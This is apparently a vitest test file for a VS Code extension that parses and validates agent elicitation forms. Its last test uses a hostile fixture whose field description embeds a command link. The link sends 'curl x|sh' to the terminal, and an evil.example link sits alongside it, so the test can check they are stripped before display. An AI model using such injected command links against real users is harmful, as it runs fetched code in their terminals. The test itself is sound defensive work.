import type { CreateElicitationRequest } from '@agentclientprotocol/sdk';
import { describe, expect, it } from 'vitest';
import {
  buildElicitationContent,
  checkFieldAnswer,
  fieldPrompt,
  parseElicitationForm,
  validateElicitationContent,
  type ElicitationForm,
  type FormField,
} from '../../../src/permissionUI/elicitationForm';
import { forQuickInputMessage } from '../../../src/acpClient/displayText';

// Real AskUserQuestion elicitation (transcripts/ask-elicitation.jsonl).
const ask: CreateElicitationRequest = {
  mode: 'form',
  sessionId: 's1',
  toolCallId: 'toolu_3293',
  message: 'Which color do you prefer?',
  requestedSchema: {
    type: 'object',
    properties: {
      question_0: {
        type: 'string',
        title: 'Color',
        oneOf: [
          { const: 'Red', title: 'Red', description: 'Warm color' },
          { const: 'Blue', title: 'Blue', description: 'Cool color' },
        ],
      },
      question_0_custom: { type: 'string', title: 'Other', description: 'Type your own answer, or add a note to the option you chose above (optional).' },
    },
  },
};

function form(req: CreateElicitationRequest): ElicitationForm {
  const parsed = parseElicitationForm(req);
  if (!parsed.ok) throw new Error(parsed.error);
  return parsed.form;
}

const field = (f: ElicitationForm, key: string): FormField => f.fields.find((x) => x.key === key)!;

describe('parseElicitationForm', () => {
  it('models AskUserQuestion: single choice via oneOf plus optional free text', () => {
    const f = form(ask);
    expect(f.message).toBe('Which color do you prefer?');
    expect(f.fields).toEqual([
      {
        key: 'question_0',
        type: 'single',
        title: 'Color',
        description: undefined,
        required: false,
        default: undefined,
        options: [
          { value: 'Red', label: 'Red', description: 'Warm color' },
          { value: 'Blue', label: 'Blue', description: 'Cool color' },
        ],
      },
      expect.objectContaining({ key: 'question_0_custom', type: 'text', title: 'Other', required: false }),
    ]);
  });

  it('models enum, multi-select (anyOf and enum), number, integer and boolean fields', () => {
    const f = form({
      mode: 'form',
      sessionId: 's',
      message: 'Settings',
      requestedSchema: {
        type: 'object',
        required: ['size', 'tags'],
        properties: {
          size: { type: 'string', enum: ['S', 'M', 'L'], default: 'M' },
          tags: {
            type: 'array',
            title: 'Tags',
            minItems: 1,
            maxItems: 2,
            items: {
              anyOf: [
                { const: 'a', title: 'A' },
                { const: 'b', title: 'B' },
                { const: 'c', title: 'C' },
              ],
            },
          },
          plain: { type: 'array', items: { type: 'string', enum: ['x', 'y'] } },
          ratio: { type: 'number', minimum: 0, maximum: 1 },
          count: { type: 'integer', default: 3 },
          ok: { type: 'boolean', default: true },
        },
      },
    });
    expect(f.fields.map((x) => [x.key, x.type, x.required])).toEqual([
      ['size', 'single', true],
      ['tags', 'multi', true],
      ['plain', 'multi', false],
      ['ratio', 'number', false],
      ['count', 'number', false],
      ['ok', 'boolean', false],
    ]);
    expect(field(f, 'size')).toMatchObject({ default: 'M', options: [{ value: 'S', label: 'S' }, { value: 'M' }, { value: 'L' }] });
    expect(field(f, 'count')).toMatchObject({ integer: true, default: 3 });
  });

  it('skips optional fields of unknown types and refuses required ones', () => {
    const base = { mode: 'form' as const, sessionId: 's', message: 'm' };
    const optional = parseElicitationForm({ ...base, requestedSchema: { type: 'object', properties: { x: { type: '_custom' } } } });
    expect(optional).toEqual({ ok: true, form: expect.objectContaining({ fields: [], skipped: ['x'] }) });
    const required = parseElicitationForm({ ...base, requestedSchema: { type: 'object', required: ['x'], properties: { x: { type: '_custom' } } } });
    expect(required).toMatchObject({ ok: false, error: expect.stringMatching(/"x"/) });
  });

  it('refuses url mode (only form is served)', () => {
    const parsed = parseElicitationForm({ mode: 'url', sessionId: 's', message: 'Log in', url: 'https://x', elicitationId: 'e' });
    expect(parsed).toMatchObject({ ok: false, error: expect.stringMatching(/not supported/) });
  });
});

describe('checkFieldAnswer', () => {
  const f = form({
    mode: 'form',
    sessionId: 's',
    message: 'm',
    requestedSchema: {
      type: 'object',
      required: ['name', 'n', 'tags'],
      properties: {
        name: { type: 'string', title: 'Name', minLength: 2, maxLength: 4, pattern: '^[a-z]+$' },
        n: { type: 'integer', title: 'N', minimum: 1, maximum: 10 },
        tags: { type: 'array', title: 'Tags', minItems: 1, maxItems: 2, items: { enum: ['a', 'b', 'c'] } },
        opt: { type: 'number', title: 'Opt' },
        color: { type: 'string', oneOf: [{ const: 'Red', title: 'Red' }] },
        flag: { type: 'boolean' },
      },
    },
  });

  it('validates text length and pattern', () => {
    expect(checkFieldAnswer(field(f, 'name'), 'ab')).toEqual({ ok: true, value: 'ab' });
    expect(checkFieldAnswer(field(f, 'name'), 'a')).toMatchObject({ ok: false, message: 'Enter at least 2 characters.' });
    expect(checkFieldAnswer(field(f, 'name'), 'abcde')).toMatchObject({ ok: false });
    expect(checkFieldAnswer(field(f, 'name'), 'AB')).toMatchObject({ ok: false, message: expect.stringMatching(/match/) });
    expect(checkFieldAnswer(field(f, 'name'), '')).toMatchObject({ ok: false, message: 'Name is required.' });
  });

  it('parses numbers with bounds and integer-ness; empty optional means no answer', () => {
    expect(checkFieldAnswer(field(f, 'n'), ' 7 ')).toEqual({ ok: true, value: 7 });
    expect(checkFieldAnswer(field(f, 'n'), '7.5')).toMatchObject({ ok: false, message: 'Enter a whole number.' });
    expect(checkFieldAnswer(field(f, 'n'), '11')).toMatchObject({ ok: false });
    expect(checkFieldAnswer(field(f, 'n'), 'abc')).toMatchObject({ ok: false, message: 'Enter a number.' });
    expect(checkFieldAnswer(field(f, 'opt'), '')).toEqual({ ok: true, value: undefined });
    expect(checkFieldAnswer(field(f, 'opt'), '-0.5')).toEqual({ ok: true, value: -0.5 });
  });

  it('checks choices, multi-select counts and booleans', () => {
    expect(checkFieldAnswer(field(f, 'color'), 'Red')).toEqual({ ok: true, value: 'Red' });
    expect(checkFieldAnswer(field(f, 'color'), 'Green')).toMatchObject({ ok: false });
    expect(checkFieldAnswer(field(f, 'tags'), ['a', 'c'])).toEqual({ ok: true, value: ['a', 'c'] });
    expect(checkFieldAnswer(field(f, 'tags'), [])).toMatchObject({ ok: false, message: 'Tags is required.' });
    expect(checkFieldAnswer(field(f, 'tags'), ['a', 'b', 'c'])).toMatchObject({ ok: false, message: 'Pick at most 2.' });
    expect(checkFieldAnswer(field(f, 'tags'), ['z'])).toMatchObject({ ok: false });
    expect(checkFieldAnswer(field(f, 'flag'), false)).toEqual({ ok: true, value: false });
  });
});

describe('string formats', () => {
  const f = form({
    mode: 'form',
    sessionId: 's',
    message: 'm',
    requestedSchema: {
      type: 'object',
      properties: {
        mail: { type: 'string', format: 'email' },
        site: { type: 'string', format: 'uri' },
        day: { type: 'string', format: 'date' },
        at: { type: 'string', format: 'date-time' },
      },
    },
  });
  it('checks email, uri, date and date-time', () => {
    expect(checkFieldAnswer(field(f, 'mail'), 'a@b.c')).toEqual({ ok: true, value: 'a@b.c' });
    expect(checkFieldAnswer(field(f, 'mail'), 'nope')).toMatchObject({ ok: false });
    expect(checkFieldAnswer(field(f, 'site'), 'https://example.com/x')).toMatchObject({ ok: true });
    expect(checkFieldAnswer(field(f, 'site'), 'not a uri')).toMatchObject({ ok: false });
    expect(checkFieldAnswer(field(f, 'day'), '2026-01-31')).toMatchObject({ ok: true });
    expect(checkFieldAnswer(field(f, 'day'), '31/01/2026')).toMatchObject({ ok: false });
    expect(checkFieldAnswer(field(f, 'at'), '2026-01-31T10:00:00Z')).toMatchObject({ ok: true });
    expect(checkFieldAnswer(field(f, 'at'), '2026-01-31')).toMatchObject({ ok: false });
  });
});

describe('content', () => {
  it('builds accept content, leaving out unanswered fields', () => {
    const f = form(ask);
    const content = buildElicitationContent(
      f,
      new Map([
        ['question_0', 'Red'],
        ['question_0_custom', undefined],
      ]),
    );
    expect(content).toEqual({ question_0: 'Red' });
    expect(validateElicitationContent(f, content)).toBeUndefined();
  });

  it('validates content from the inline form', () => {
    const f = form(ask);
    expect(validateElicitationContent(f, { question_0: 'Red', question_0_custom: 'Red' })).toBeUndefined();
    expect(validateElicitationContent(f, {})).toBeUndefined();
    expect(validateElicitationContent(f, null)).toBeUndefined();
    expect(validateElicitationContent(f, { question_0: 'Green' })).toMatch(/Color/);
    expect(validateElicitationContent(f, { question_0: 5 })).toMatch(/wrong type/);
    expect(validateElicitationContent(f, { question_9: 'x' })).toMatch(/Unknown field "question_9"/);
    expect(validateElicitationContent(f, 'text')).toMatch(/object/);
  });
});

describe("a question's input box text", () => {
  // VS Code's quick input renders its prompt and validation message with links (base/common/linkedText.ts's syntax,
  // opened with commands allowed) and `$(icon)`s.
  const VSCODE_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/giu;
  const CODICON = /(?<!\\)\$\([A-Za-z0-9-]+(?:~[A-Za-z-]+)?\)/u;
  const hostile: CreateElicitationRequest = {
    mode: 'form',
    sessionId: 's1',
    message: 'Connect',
    requestedSchema: {
      type: 'object',
      properties: {
        token: {
          type: 'string',
          title: 'Token $(key)',
          description: '[Open the token page](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20x%7Csh%5Cn%22%7D)',
          pattern: '^[a-z]+$ [see](https://evil.example/x) $(alert)',
        },
      },
      required: ['token'],
    },
  };

  it('carries no link and no icon from the agent in the prompt or the validation message', () => {
    const token = field(form(hostile), 'token');
    const prompt = forQuickInputMessage(fieldPrompt(token));
    const check = checkFieldAnswer(token, 'NOT LOWER');
    expect(check.ok).toBe(false);
    const validation = forQuickInputMessage(check.ok ? '' : check.message);
    for (const text of [prompt, validation]) {
      expect(text.match(VSCODE_LINK)).toBeNull();
      expect(text).not.toMatch(CODICON);
    }
    // The words stay readable.
    expect(prompt).toContain('Open the token page');
    expect(prompt).toContain('\\$(key)');
    expect(validation).toContain('^[a-z]+$');
  });
});
